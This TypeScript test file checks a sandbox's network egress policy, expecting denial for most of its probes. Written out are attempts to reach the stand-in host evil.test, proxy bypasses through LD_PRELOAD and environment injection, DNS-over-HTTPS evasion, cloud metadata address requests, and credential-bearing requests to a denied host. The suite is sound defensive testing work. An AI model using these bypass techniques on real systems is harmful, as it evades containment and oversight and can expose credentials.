import { spawnSync } from 'node:child_process'

/** What a program inside does, what it sees, and what stands in the record. */
export interface NetworkCase {
  readonly id: string
  readonly holds: string
  readonly script: string
  readonly prints: string | RegExp
  readonly event?: Readonly<Record<string, unknown>>
  readonly policy?: string
  /** What may stand in no line of the record. */
  readonly never?: RegExp
  /** Where tier 2 answers otherwise: `docs/admin/boundary-tiers.md` says why. */
  readonly inTier2?: Pick<NetworkCase, 'holds' | 'script' | 'prints' | 'event'>
}

const get = (url: string, flags = '') => `curl -sS -m 20 -o body -w '%{http_code}' ${flags} '${url}'`
const allowed = (rule: string, host = 'api.test', program = 'curl') => ({ kind: 'net', decision: 'allow', rule, host, program }) // prettier-ignore
const denied = (host: string, reason = 'no-matching-rule', rule = 'default') => ({ kind: 'net', decision: 'deny', rule, reason, host, program: 'curl', named: true }) // prettier-ignore
const node = (lines: string) => `"$NODE" --input-type=module - <<'END'\n${lines}\nEND`
const python = (lines: string) => `python3 - <<'END'\n${lines}\nEND`

/** Not on every machine: Node alone brings none. */
const hasNpm = spawnSync('npm', ['--version']).status === 0
const install = (host: string) => `npm install --no-audit --no-fund --no-update-notifier --fetch-retries=0 --registry=https://${host}/ thing 2>&1` // prettier-ignore
const npm: NetworkCase = {
  id: 'npm',
  holds: 'npm installs from where it may, and is told of where it may not',
  script: `cd $(mktemp -d) && echo '{}' >package.json; ${install('npm.pkg.test')} >/dev/null; node -p 'require("thing")'; ${install('evil.test')} | grep -o -m 1 E403`,
  prints: 'a thing\nE403',
  event: { kind: 'net', decision: 'allow', rule: 'pkg', host: 'npm.pkg.test' },
}

const anywhere = `
apiVersion: reeve/v1
name: anywhere
network:
  rules:
    - { id: all, host: ["*.test", "*", "169.254.169.254", "100.100.100.200", "168.63.129.16", "fd00:ec2::254"], ports: [80, 443] }
`

export const networkCases: readonly NetworkCase[] = [
  { id: 'N01', holds: 'what a rule allows is reached', script: get('https://api.test/v1/x'), prints: '200', event: allowed('api') }, // prettier-ignore
  { id: 'N02', holds: 'case and a dot at the end change nothing', script: `${get('https://API.TEST/v1/x')}; ${get('https://api.test./v1/x')}`, prints: '200200', event: allowed('api') }, // prettier-ignore
  { id: 'N03', holds: 'a name below is another name', script: get('https://sub.api.test/v1/x'), prints: '403', event: denied('sub.api.test') }, // prettier-ignore
  { id: 'N04', holds: 'a wildcard means names below', script: `${get('https://pkg.test/')}; ${get('https://a.b.pkg.test/')}`, prints: '403200', event: denied('pkg.test') }, // prettier-ignore
  { id: 'N05', holds: 'names that look alike are others', script: `${get('https://evilapi.test/v1/x')}; ${get('https://api.test.evil.test/v1/x')}`, prints: '403403', event: denied('api.test.evil.test') }, // prettier-ignore
  { id: 'N06', holds: 'another port is denied', script: get('https://api.test:8443/v1/x'), prints: '403', event: denied('api.test') }, // prettier-ignore
  { id: 'N07', holds: 'plain HTTP is denied where only TLS is allowed', script: get('http://api.test/v1/x'), prints: '403', event: denied('api.test') }, // prettier-ignore
  { id: 'N08', holds: 'another method is denied', script: get('https://api.test/v1/x', '-X DELETE'), prints: '403', event: denied('api.test') }, // prettier-ignore
  { id: 'N09', holds: 'dot segments lead nowhere', script: `${get('https://api.test/v1/../admin', '--path-as-is')}; ${get('https://api.test/v1/%2e%2e/admin', '--path-as-is')}`, prints: /^4\d\d4\d\d$/, event: { kind: 'net', decision: 'deny', host: 'api.test' } }, // prettier-ignore
  { id: 'N16', holds: 'what looks like another host in the address is none', script: get('https://user:pw@api.test/v1/x@evil.test'), prints: '200', event: allowed('api') }, // prettier-ignore
  { id: 'N20', holds: 'an explicit denial wins', script: `${get('https://api.test/v1/secret')}; grep -o ask-the-owner body`, prints: '403ask-the-owner', event: denied('api.test', 'rule', 'secret') }, // prettier-ignore
  { id: 'H22', holds: 'what is redirected to is decided by itself', script: get('https://api.test/v1/redirect', '-L'), prints: '403', event: denied('evil.test') }, // prettier-ignore
  { id: 'H25', holds: 'a denial says what it is and not how to lift it', script: `${get('https://evil.test/')}; grep -c -e --allow -e restart body; $NODE -e 'const d=JSON.parse(require("fs").readFileSync("body"));console.log(d.type,d.host,/^dny_\\w{26}$/.test(d.denial))'`, prints: '4030\nurn:reeve:denied:policy evil.test true', event: denied('evil.test') }, // prettier-ignore
  { id: 'D01', holds: 'a name that no rule is about is denied where it is asked for', script: 'getent hosts nobody.test | wc -l', prints: /^[01]$/m, event: { kind: 'dns', decision: 'deny', host: 'nobody.test', named: true } }, // prettier-ignore
  { id: 'D03', holds: 'an allowed name has an address of the sandbox', script: `getent ahostsv4 names.pkg.test | head -1 | cut -d. -f1`, prints: '198', event: { kind: 'dns', decision: 'allow', host: 'names.pkg.test' } }, // prettier-ignore
  { id: 'D04', holds: 'no other name server is reached', script: python(`
import socket as s
try:
    u = s.socket(s.AF_INET, s.SOCK_DGRAM); u.settimeout(2); u.connect(("8.8.8.8", 53)); u.send(b"x" * 20); print(u.recv(9))
except OSError: print("refused")
q = b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6) + b"\\x03api\\x04test\\x00\\x00\\x01\\x00\\x01"
t = s.create_connection(("8.8.8.8", 53)); t.send(len(q).to_bytes(2, "big") + q); print(t.recv(99)[-4])`), prints: 'refused\n198' }, // prettier-ignore
  { id: 'D05', holds: 'names over HTTPS are denied', script: get('https://dns.google/dns-query?name=evil.test'), prints: '403', event: denied('dns.google') }, // prettier-ignore
  { id: 'D05', holds: 'and over TLS of their own', script: python(`
import socket as s, ssl
for host in ("cloudflare-dns.com", "dns.google", "1.1.1.1", "9.9.9.9"):
    for port in (443, 853):
        try:
            c = ssl._create_unverified_context().wrap_socket(s.create_connection((host, port), 20), server_hostname=host)
            c.send(b"GET /dns-query HTTP/1.1\\r\\nHost: " + host.encode() + b"\\r\\n\\r\\n"); print(c.recv(12).decode() or "reset")
        except OSError: print("reset")`), prints: /^((HTTP\/1\.1 403|reset)(\n|$)){8}$/, event: { kind: 'net', decision: 'deny', host: '9.9.9.9', program: 'python' } }, // prettier-ignore
  { id: 'K14', holds: 'what a program is preloaded with changes nothing', script: `
printf '#include <sys/syscall.h>\n#include <unistd.h>\nint connect(int f, const void *a, unsigned n) { return syscall(SYS_connect, f, a, n); }\nint close_range(unsigned a, unsigned b, int c) { return 0; }\n' >p.c
gcc -shared -fPIC -o p.so p.c
printf 'process.env.HTTPS_PROXY = ""; process.env.NO_PROXY = "*"' >p.cjs; printf 'import os; os.environ.clear()' >p.py
LD_PRELOAD=$PWD/p.so LD_LIBRARY_PATH=$PWD ${get('https://evil.test/')}
NODE_OPTIONS="--require=$PWD/p.cjs" "$NODE" -e 'fetch("https://evil.test/").then((r) => process.stdout.write(String(r.status)))'
PYTHONSTARTUP=$PWD/p.py PYTHONPATH=$PWD https_proxy= ${get('https://evil.test/')}`, prints: '403403403', event: denied('evil.test') }, // prettier-ignore
  { id: 'X01', holds: 'a connection to an address is denied', script: python(`
import socket as s
c = s.create_connection(("93.184.216.34", 443)); c.settimeout(20); c.send(b"hello\\n\\n\\n")
try: print(c.recv(99))
except OSError: print("reset")`), prints: /reset|b''/, event: { kind: 'net', decision: 'deny', host: '93.184.216.34', program: 'python' } }, // prettier-ignore
  { id: 'X02', holds: 'an empty environment is captured and trusts', script: `env -i /usr/bin/curl -sS -m 20 -o body -w '%{http_code}' https://api.test/v1/x; env -i /usr/bin/curl -sS -m 20 -o body -w '%{http_code}' https://evil.test/`, prints: '200403', event: denied('evil.test'), inTier2: {
    holds: 'an empty environment is captured; names are not found and the authority is not trusted without it',
    script: ["https://api.test/v1/x", "--resolve '*:443:93.184.216.34' https://api.test/v1/x", "-k --resolve '*:443:93.184.216.34' https://api.test/v1/x", "-k --resolve '*:443:93.184.216.34' https://evil.test/"]
      .map((words) => `env -i /usr/bin/curl -s -m 20 -o body -w '%{http_code} ' ${words}`).join('; '),
    prints: '000 000 200 403',
    event: denied('evil.test'),
  } }, // prettier-ignore
  { id: 'X09', holds: 'an address of IPv6 is denied', script: get('https://[2606:2800:220:1::1]/', '-k -g'), prints: '403', event: denied('2606:2800:220:1::1') }, // prettier-ignore
  { id: 'X09', holds: 'and so is a local, a link-local and a mapped one', script: ['[fd12:3456::1]', '[fe80::1%25lo]', '[::ffff:93.184.216.34]', '[::ffff:169.254.169.254]', '[64:ff9b::a9fe:a9fe]', '[ff02::1]'].map((host) => `${get(`http://${host}/x`, '-g -s')}; echo`).join('; '), prints: /^((403|000)(\n|$)){6}$/, event: denied('fd12:3456::1') }, // prettier-ignore
  { id: 'X10', holds: 'addresses of metadata are denied whatever is allowed', policy: anywhere, script: ['169.254.169.254', '100.100.100.200', '168.63.129.16', 'metadata.google.internal', 'meta.test', 'inward.test', 'loop.test'].map((host) => get(`http://${host}/latest`)).join('; '), prints: '403'.repeat(7), event: denied('169.254.169.254', 'address-class') }, // prettier-ignore
  { id: 'X13', holds: 'a tcp rule lets through what is no web, and only there', script: python(`
import socket as s
print(s.create_connection(("git.test", 22)).recv(7).decode())
c = s.create_connection(("other.test", 22)); c.send(b"SSH-2.0-x\\r\\n")
try: print(c.recv(7))
except OSError: print("reset")`), prints: /^SSH-2\.0\n(reset|b'')/, event: { kind: 'dns', decision: 'deny', host: 'other.test' } }, // prettier-ignore
  { id: 'S05', holds: 'what a request carries is not in the record', script: `${get('https://api.test/v1/x?token=hunter2', "-H 'Authorization: Bearer hunter2' -H 'Cookie: s=hunter2' -u me:hunter2 -d password=hunter2")}; ${get('https://me:hunter2@evil.test/?key=hunter2#hunter2')}`, prints: '200403', event: allowed('api'), never: /hunter2/ }, // prettier-ignore
  { id: 'git', holds: 'git clones what is allowed, and is told of what is not', script: 'git clone -q https://git.test/repo.git a && cat a/README; git clone -q https://evil.test/repo.git b 2>&1 | grep -o 403', prints: 'hello\n403', event: { kind: 'net', decision: 'deny', host: 'evil.test' } }, // prettier-ignore
  ...(hasNpm ? [npm] : []),
  { id: 'http2', holds: 'a client of HTTP/2 reaches what is allowed, and reads why it was denied', script: node(`
import http2 from 'node:http2'
const ask = (host, path) => new Promise((done) => {
  const client = http2.connect('https://' + host)
  const req = client.request({ ':path': path })
  let text = '', head
  req.on('response', (headers) => (head = headers)).setEncoding('utf8').on('data', (piece) => (text += piece))
  req.on('end', () => { client.close(); done([client.alpnProtocol, head[':status'], head['x-reeve-class'] ?? text.trim()].join(' ')) })
})
console.log(await ask('api.test', '/v1/p'))
console.log(await ask('evil.test', '/'))`), prints: 'h2 200 reached GET api.test /v1/p\nh2 403 policy', event: allowed('api', 'api.test', 'node') }, // prettier-ignore
  { id: 'python', holds: "Python's urllib reaches what is allowed", script: python(`
import urllib.request as u
print(u.urlopen("https://api.test/v1/p").read().decode().strip())
try: u.urlopen("https://evil.test/")
except u.HTTPError as e: print(e.code, e.headers["X-Reeve-Class"])`), prints: /^reached GET api\.test \/v1\/p\n403 policy/, event: allowed('api', 'api.test', 'python') }, // prettier-ignore
  { id: 'node', holds: 'fetch of Node reaches what is allowed', script: `"$NODE" -e 'for (const u of ["https://api.test/v1/n","https://evil.test/"]) { const r = await fetch(u); console.log(r.status) }' --input-type=module`, prints: '200\n403', event: allowed('api', 'api.test', 'node') }, // prettier-ignore
]
